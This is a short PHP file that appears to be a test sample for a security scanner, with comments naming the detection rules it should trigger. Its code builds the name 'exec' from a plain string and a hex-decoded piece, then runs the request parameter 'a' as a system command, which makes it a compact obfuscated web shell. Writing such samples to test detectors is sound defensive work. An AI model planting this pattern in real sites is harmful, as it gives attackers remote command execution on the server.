<?php
// want: php_request_command_exec php_hidden_function_name
// fold: exec
$x = sprintf('%s%s', 'ex', pack('H*', '6563'));
$x($_POST['a'], $out);
